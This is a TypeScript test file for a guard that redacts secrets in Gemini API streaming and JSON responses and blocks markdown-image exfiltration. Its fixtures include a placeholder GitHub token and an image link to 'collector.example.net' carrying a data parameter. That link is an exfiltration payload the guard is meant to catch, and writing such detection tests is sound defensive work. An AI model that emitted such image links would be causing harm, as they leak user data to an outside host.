import { createParser } from 'eventsource-parser';
import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { scanText } from '../../../src/core/guard/scan-text.ts';
import { getCorePack } from '../../../src/core/rules/builtin-packs.ts';
import { geminiApiJson, geminiApiStream } from '../../../src/core/wire/adapters/gemini-api.ts';
import { replayBody } from '../../../src/core/wire/replay-body.ts';
import {
  blockingPack,
  fixture,
  splitBytes,
  throughTransform,
  wholeReplay,
} from '../../support/wire-harness.ts';
import { cutFractions } from '../../support/text-arbitraries.ts';

const pack = getCorePack();
const secret = fixture('gemini-api/secret-split.sse');
const benign = fixture('gemini-api/benign.sse');
const array = fixture('gemini-api/stream-array.json');
const blocking = blockingPack('github-pat');

interface Part {
  text?: string;
  thought?: boolean;
  functionCall?: unknown;
  thoughtSignature?: string;
}
interface Chunk {
  candidates?: { content?: { parts?: Part[] }; finishReason?: string; index?: number }[];
}

/** Reads an SSE body the way a client does: eventsource-parser, then JSON.parse per event. */
function readSse(body: string) {
  const chunks: Chunk[] = [];
  const parser = createParser({
    onEvent: (event) => chunks.push(JSON.parse(event.data) as Chunk),
  });
  parser.feed(body);
  return { chunks, ...texts(chunks) };
}

function texts(chunks: Chunk[]) {
  const parts = chunks.flatMap((c) => c.candidates?.[0]?.content?.parts ?? []);
  return {
    answer: parts.map((p) => (p.thought === true ? '' : (p.text ?? ''))).join(''),
    thought: parts.map((p) => (p.thought === true ? (p.text ?? '') : '')).join(''),
  };
}

/** The chunk with its text literals blanked. */
function skeleton(chunk: Chunk): string {
  return JSON.stringify(chunk, (key, value: unknown) =>
    key === 'text' && typeof value === 'string' ? '' : value,
  );
}

describe('gemini-api stream adapter (alt=sse)', () => {
  it('passes a stream without matches through byte for byte (CRLF)', () => {
    const replay = wholeReplay(geminiApiStream, pack, benign);
    expect(replay.output).toBe(benign);
    expect(replay.issues).toEqual([]);
  });

  it('guards answer text; thoughts, function calls and signatures keep their place', () => {
    const replay = wholeReplay(geminiApiStream, pack, secret);
    const original = readSse(secret);
    const guarded = readSse(replay.output);
    expect(guarded.answer).toBe(scanText(pack, original.answer).output);
    expect(guarded.answer).toContain('[redacted:github-pat]');
    expect(guarded.answer).toContain('[image blocked: collector.example.net]');
    expect(guarded.thought).toBe(original.thought);
    expect(guarded.chunks.map(skeleton)).toEqual(original.chunks.map(skeleton));
    const nonText = (r: typeof original) =>
      r.chunks
        .flatMap((c) => c.candidates?.[0]?.content?.parts ?? [])
        .filter((p) => !('text' in p));
    expect(nonText(guarded)).toEqual(nonText(original));
    expect(replay.output).toContain('"thoughtSignature":"EXAMPLEc2lnbmF0dXJlAA=="');
    expect(replay.events.map((e) => [e.channel, (e.event as { rule: string }).rule])).toEqual([
      ['candidate:0', 'github-pat'],
      ['candidate:0', 'markdown-image-exfil'],
    ]);
  });

  it('for any split of the wire bytes, the page receives the single-chunk result', async () => {
    const bytes = new TextEncoder().encode(secret);
    const expected = wholeReplay(geminiApiStream, pack, secret).output;
    await fc.assert(
      fc.asyncProperty(cutFractions(24), async (cuts) => {
        const out = await throughTransform(geminiApiStream, pack, splitBytes(bytes, cuts));
        expect(new TextDecoder().decode(out)).toBe(expected);
      }),
      { numRuns: 200 },
    );
  });

  it('a block ends the open candidate with finishReason SAFETY, framed like the stream', () => {
    const replay = replayBody(geminiApiStream, blocking, [secret]);
    expect(replay.blocked).toBe(true);
    const read = readSse(replay.output);
    expect(read.answer).toBe('Here it is: ');
    const last = read.chunks.at(-1);
    expect(last).toMatchObject({
      candidates: [{ finishReason: 'SAFETY', index: 0, content: { parts: [{ text: '' }] } }],
      modelVersion: 'gemini-2.5-flash',
      responseId: 'EXAMPLEresp01',
    });
    expect(replay.output.endsWith('}\r\n\r\n')).toBe(true);
    expect(read.chunks.filter((c) => c.candidates?.[0]?.finishReason !== undefined)).toHaveLength(
      1,
    );
  });
});

describe('gemini-api JSON adapter (no alt=sse)', () => {
  it('guards a JSON array of chunks in place, other bytes untouched', () => {
    const out = wholeReplay(geminiApiJson, pack, array).output;
    const chunks = JSON.parse(out) as Chunk[];
    expect(texts(chunks).answer).toBe(
      scanText(pack, texts(JSON.parse(array) as Chunk[]).answer).output,
    );
    // The redaction belongs to the chunk it starts in; the next chunk keeps only what follows.
    expect(out).toBe(
      array
        .replace('ghp_EXAMPLEexam"', '[redacted:github-pat]"')
        .replace('"pleEXAMPLEexample01234567', '"')
        .replace(
          '![x](https://collector.example.net/p?d=abc)',
          '[image blocked: collector.example.net]',
        ),
    );
  });

  it('a block before any released text gives a SAFETY-finished body of the same kind', () => {
    const early = array.replace('Here it is: ', '');
    const replay = replayBody(geminiApiJson, blocking, [early]);
    expect(replay.blocked).toBe(true);
    expect(JSON.parse(replay.output)).toEqual([
      {
        candidates: [
          { content: { parts: [{ text: '' }], role: 'model' }, finishReason: 'SAFETY', index: 0 },
        ],
        modelVersion: 'gemini-2.5-flash',
        responseId: 'EXAMPLEresp01',
      },
    ]);
  });

  it('detects by URL: alt=sse streams vs JSON bodies', () => {
    const url = 'https://generativelanguage.googleapis.com/v1beta/models/gemini-2.5-flash';
    const sse = {
      url: `${url}:streamGenerateContent?alt=sse`,
      contentType: 'text/event-stream',
      head: '',
    };
    const json = {
      url: `${url}:streamGenerateContent`,
      contentType: 'application/json; charset=UTF-8',
      head: '[{',
    };
    expect(geminiApiStream.detect(sse)).toBe(true);
    expect(geminiApiJson.detect(sse)).toBe(false);
    expect(geminiApiJson.detect(json)).toBe(true);
    expect(geminiApiJson.detect({ ...json, url: `${url}:generateContent` })).toBe(true);
    expect(geminiApiStream.detect(json)).toBe(false);
  });
});
